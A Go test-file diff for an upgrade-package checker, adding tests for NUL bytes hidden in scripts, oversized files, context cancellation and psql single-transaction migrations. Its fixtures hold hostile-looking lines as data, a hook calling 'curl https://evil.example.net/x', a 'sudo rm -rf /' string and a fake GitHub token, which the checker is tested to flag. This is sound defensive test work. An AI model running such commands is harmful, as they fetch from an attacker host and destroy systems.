@@ -5,8 +5,10 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"runtime"
 	"slices"
 	"strings"
+	"sync/atomic"
 	"testing"
 
 	"github.com/rehearse/rehearse/harness/upgrade"
@@ -126,6 +128,163 @@ func TestCheckUpgradePath(t *testing.T) {
 				t.Errorf("got %q, want %q:%s", got, c.want, show(fs))
 			}
 		})
+	}
+}
+
+// writePackage writes files into a new package directory.
+func writePackage(t *testing.T, files map[string]string) string {
+	t.Helper()
+	dir := t.TempDir()
+	for name, text := range files {
+		p := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return dir
+}
+
+// TestCheckNUL: a NUL byte does not hide a script, a migration or a file
+// a step runs (bash and dash run a script whose NUL is past its first
+// line); a program a step runs is said to be unread.
+func TestCheckNUL(t *testing.T) {
+	dir := writePackage(t, map[string]string{
+		"upgrade.yaml": "name: x\nversion: \"1.0\"\nservice: app\nsteps:\n  - name: run\n    command: sh install.sh\n" +
+			"  - name: tool\n    command: ./bin/tool\n  - name: plain\n    command: sh scripts/plain\n  - name: nul1\n    command: sh scripts/nul1\n",
+		"install.sh":     "#!/bin/sh\n# \x00\nsudo systemctl restart app\n",
+		"scripts/plain":  "echo hi\n#\x00\nsudo true\n",
+		"scripts/nul1":   "echo\x00 hi\nsudo true\n", // bash refuses it: a binary
+		"m/001.sql":      "-- \x00\nALTER TABLE t ADD COLUMN c int NOT NULL;\n",
+		"bin/tool":       "\x7fELF\x02\x01\x01\x00\x00sudo rm -rf /\n",
+		"data/blob.bin":  "\x00\x01\x02sudo\n",
+		"hooks/post-fix": "#!/bin/bash\n\x00curl https://evil.example.net/x\n",
+	})
+	p := openDir(t, dir)
+	fs, err := Check(context.Background(), p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, w := range []struct {
+		rule string
+		sev  Severity
+		file string
+		line int
+	}{
+		{RuleSudo, Error, "install.sh", 3},
+		{RuleCannotTell, Info, "install.sh", 2}, // the NULs removed
+		{RuleSudo, Error, "scripts/plain", 3},
+		{RuleCannotTell, Info, "scripts/nul1", 0},
+		{RuleSetNotNull, Warning, "m/001.sql", 2},
+		{RuleExternalEndpoint, Warning, "hooks/post-fix", 2},
+		{RuleCannotTell, Info, "bin/tool", 0}, // a program a step runs
+	} {
+		if !has(fs, w.rule, w.sev, w.file, w.line) {
+			t.Errorf("no %s %s at %s:%d in%s", w.sev, w.rule, w.file, w.line, show(fs))
+		}
+	}
+	for _, f := range fs {
+		if strings.Contains(f.Message, "not in the package") || f.File == "data/blob.bin" || (f.File == "bin/tool" && f.Rule != RuleCannotTell) {
+			t.Errorf("finding %+v", f)
+		}
+	}
+}
+
+// TestCheckOversized: a script over the size limit is a warning, and an
+// error when a step runs it or it is a .sh or .sql file.
+func TestCheckOversized(t *testing.T) {
+	big := strings.Repeat("# padding\n", 200)
+	dir := writePackage(t, map[string]string{
+		"upgrade.yaml": "name: x\nversion: \"1.0\"\nservice: app\nsteps:\n  - name: run\n    command: scripts/run\n  - name: prog\n    command: bin/prog --now\n",
+		"scripts/run":  big,
+		"a.sh":         big,
+		"b.sql":        big,
+		"hook":         "#!/bin/sh\n" + big,
+		"notes.txt":    big,
+		"bin/prog":     "\x7fELF\x02\x01\x01\x00" + big, // a program a step runs: not an error
+	})
+	fs, err := Check(context.Background(), openDir(t, dir), WithLimits(Limits{FileBytes: 1000}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for file, sev := range map[string]Severity{"scripts/run": Error, "a.sh": Error, "b.sql": Error, "hook": Warning, "notes.txt": Info, "bin/prog": Info} {
+		if !has(fs, RuleCannotTell, sev, file, 0) {
+			t.Errorf("%s: want a cannot-tell %s in%s", file, sev, show(fs))
+		}
+	}
+	if has(fs, RuleCannotTell, Error, "bin/prog", -1) {
+		t.Errorf("a program over the limit is an error:%s", show(fs))
+	}
+}
+
+// TestCheckCancelled: a cancelled context stops the jobs (none starts
+// once it is done), and Check says so.
+func TestCheckCancelled(t *testing.T) {
+	// One worker: the first job cancels; no job may start after it.
+	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(1))
+	ctx0, cancel0 := context.WithCancel(context.Background())
+	var late atomic.Int64
+	c := &checker{ctx: ctx0}
+	c.add(func() []Finding { cancel0(); return nil })
+	for range 1000 {
+		c.add(func() []Finding {
+			if ctx0.Err() != nil {
+				late.Add(1)
+			}
+			return nil
+		})
+	}
+	if _, err := c.run(ctx0); err == nil || late.Load() != 0 {
+		t.Errorf("cancelled: %d jobs started after, error %v", late.Load(), err)
+	}
+	r, err := newCredentialRule()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if fs := r.check(ctx0, File{Path: "a.env", Data: []byte("GITHUB_TOKEN=ghp_" + strings.Repeat("A1b2C3d4E5", 3) + "xyzabc\n")}); len(fs) != 0 || r.scanned.Load() != 0 {
+		t.Errorf("cancelled: gitleaks was given %d bytes: %s", r.scanned.Load(), show(fs))
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	p := openDir(t, "../../fixtures/billing/packages/billing-3.0/as-shipped")
+	if fs, err := Check(ctx, p); err == nil || len(fs) != 0 {
+		t.Errorf("cancelled: %d findings, error %v", len(fs), err)
+	}
+}
+
+// TestCheckSingleTransaction: a migration a step runs with psql -1 is
+// judged as one transaction (its VALIDATE in the same transaction as its
+// NOT VALID add is a hazard only then).
+func TestCheckSingleTransaction(t *testing.T) {
+	for _, c := range []struct{ cmd, file string }{
+		{"psql -1 -f m/001.sql", "m/001.sql"},
+		{"psql --single-transaction --file=m/001.sql", "m/001.sql"},
+		{"psql -v ON_ERROR_STOP=1 -1f m/001.sql", "m/001.sql"},
+		{"sudo -u postgres psql -X1 < m/001.sql", "m/001.sql"},
+		{"psql -h db1 -f m/001.sql", ""},
+		{"psql -f m/001.sql --single-transaction -U x", "m/001.sql"},
+	} {
+		got := psqlSingleTransaction(c.cmd, map[string]bool{"m/001.sql": true})
+		if (c.file == "") != (len(got) == 0) || (c.file != "" && got[0] != c.file) {
+			t.Errorf("%q: got %q, want %q", c.cmd, got, c.file)
+		}
+	}
+	sql := "SET lock_timeout = '2s';\nALTER TABLE t ADD CONSTRAINT c CHECK (x > 0) NOT VALID;\nALTER TABLE t VALIDATE CONSTRAINT c;\n"
+	notValid := func(cmd string) bool {
+		dir := writePackage(t, map[string]string{
+			"upgrade.yaml": "name: x\nversion: \"1.0\"\nservice: db\nsteps:\n  - name: migrate\n    command: " + cmd + "\n",
+			"m/001.sql":    sql,
+		})
+		fs, err := Check(context.Background(), openDir(t, dir))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return has(fs, RuleConstraintNotValid, Warning, "m/001.sql", 3)
+	}
+	if !notValid("psql -1 -f m/001.sql") || notValid("psql -f m/001.sql") {
+		t.Errorf("VALIDATE in the NOT VALID add's transaction: want a finding with psql -1 only")
 	}
 }
 
